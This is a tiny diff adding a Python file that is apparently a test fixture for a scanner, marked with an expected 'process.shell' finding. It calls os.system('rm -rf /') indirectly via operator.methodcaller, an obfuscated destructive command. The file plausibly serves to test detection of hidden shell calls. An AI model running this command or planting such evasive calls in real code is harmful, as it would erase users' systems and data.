@@ -1,0 +1,4 @@
+# nacre: found process.shell
+import operator
+import os
+operator.methodcaller('system', 'rm -rf /')(os)
